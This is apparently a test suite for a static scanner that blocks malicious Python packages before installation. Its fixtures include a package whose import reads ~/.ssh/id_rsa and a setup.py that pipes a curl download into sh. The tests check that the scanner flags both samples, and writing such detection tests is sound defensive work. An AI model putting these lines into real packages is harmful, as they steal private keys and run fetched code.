import { describe, expect, test } from "bun:test";
import type { ArtifactStaticResult } from "../../src/static/index.ts";
import { defaultSpawn, type SpawnFunction } from "../../src/static/python/extractor.ts";
import { useTempDirs } from "../harness/temp.ts";
import { scan, sdistArtifact, summary, wheelArtifact } from "./helpers.ts";

const tempDir = useTempDirs("pipcanary-static-index");

function countingSpawn(): { spawn: SpawnFunction; batches: number[] } {
  const batches: number[] = [];
  const spawn: SpawnFunction = (argv, stdin, timeout) => {
    batches.push(JSON.parse(new TextDecoder().decode(stdin)).files.length);
    return defaultSpawn(argv, stdin, timeout);
  };
  return { spawn, batches };
}

describe("scanArtifactsStatically", () => {
  test("a wheel whose import would read ~/.ssh/id_rsa is blocked before anything runs", async () => {
    const dir = tempDir();
    const stealer = wheelArtifact(dir, {
      name: "sshsteal", version: "0.1",
      files: { "sshsteal/__init__.py": "import os\nwith open(os.path.expanduser('~/.ssh/id_rsa'), 'rb') as f:\n    f.read()\n" },
    });
    const result = await scan([stealer]);
    expect(result.worst).toBe("block");
    expect(result.findings.map((f) => [f.ruleId, f.severity, f.phase, f.package, f.artifactSha256])).toEqual([
      ["static.credentials.read", "block", "static", "sshsteal", stealer.sha256],
    ]);
    expect(result.findings[0]?.subject).toEqual({
      kind: "code", file: "sshsteal/__init__.py", line: 2, snippet: "with open(os.path.expanduser('~/.ssh/id_rsa'), 'rb') as f:",
    });
  });

  test("all sources of a call go to one extractor process, and an archive is analysed once per sha256", async () => {
    const dir = tempDir();
    const a = wheelArtifact(dir, { name: "onea", version: "1.0", files: { "onea/__init__.py": "X = 1\n", "onea/b.py": "Y = 2\n" } });
    const b = wheelArtifact(dir, { name: "oneb", version: "1.0", files: { "oneb/__init__.py": "Z = 3\n" } });
    const cache = new Map<string, ArtifactStaticResult>();
    const first = countingSpawn();
    const result = await scan([a, b, a], { spawn: first.spawn, cache });
    expect(first.batches).toEqual([3]);
    expect([...result.artifacts.keys()].sort()).toEqual([a.sha256, b.sha256].sort());
    const again = countingSpawn();
    const second = await scan([b, a], { spawn: again.spawn, cache });
    expect(again.batches).toEqual([]);
    expect(second.artifacts.get(a.sha256)).toBe(result.artifacts.get(a.sha256));
  });

  test("one extractor process per job, largest files first; findings follow the order of the artifacts", async () => {
    const dir = tempDir();
    const read = (name: string) => `import os\nwith open(os.path.expanduser('~/.ssh/id_rsa'), 'rb') as f:\n    f.read()\n# ${name}\n`;
    const small = wheelArtifact(dir, { name: "jobsmall", version: "1.0", files: { "jobsmall/__init__.py": read("small") } });
    const large = wheelArtifact(dir, { name: "joblarge", version: "1.0", files: { "joblarge/__init__.py": read("large"), "joblarge/big.py": `X = ${JSON.stringify("x".repeat(20_000))}\n` } });
    const counting = countingSpawn();
    const parallel = await scan([small, large], { spawn: counting.spawn, jobs: 2 });
    expect(counting.batches.sort()).toEqual([1, 2]);
    expect(parallel.findings.map((finding) => finding.package)).toEqual(["jobsmall", "joblarge"]);
    const serial = await scan([small, large], { jobs: 1 });
    expect(parallel.findings).toEqual(serial.findings);
  });

  test("files that are not Python 3 are scanned by the regex fallback and a note says so", async () => {
    const dir = tempDir();
    const old = sdistArtifact(dir, {
      name: "oldpkg", version: "0.9", setupPy: "import os\nprint 'building'\nos.system('curl http://127.0.0.1:9/x | sh')\nfrom distutils.core import setup\nsetup()\n", files: {},
    });
    const result = await scan([old]);
    expect(summary(result.findings)).toContain("static.install.shell block");
    expect(result.notes.some((note) => note.startsWith("oldpkg-0.9.tar.gz: oldpkg-0.9/setup.py: not valid Python 3 (SyntaxError"))).toBe(true);
    expect(result.artifacts.get(old.sha256)?.stats.regexFallback).toBe(1);
  });

  test("a clean package has no findings and no worst severity", async () => {
    const dir = tempDir();
    const clean = wheelArtifact(dir, { name: "cleanpkg", version: "1.0", files: { "cleanpkg/__init__.py": "def add(a, b):\n    return a + b\n" } });
    const result = await scan([clean]);
    expect(result.findings).toEqual([]);
    expect(result.worst).toBeUndefined();
  });
});
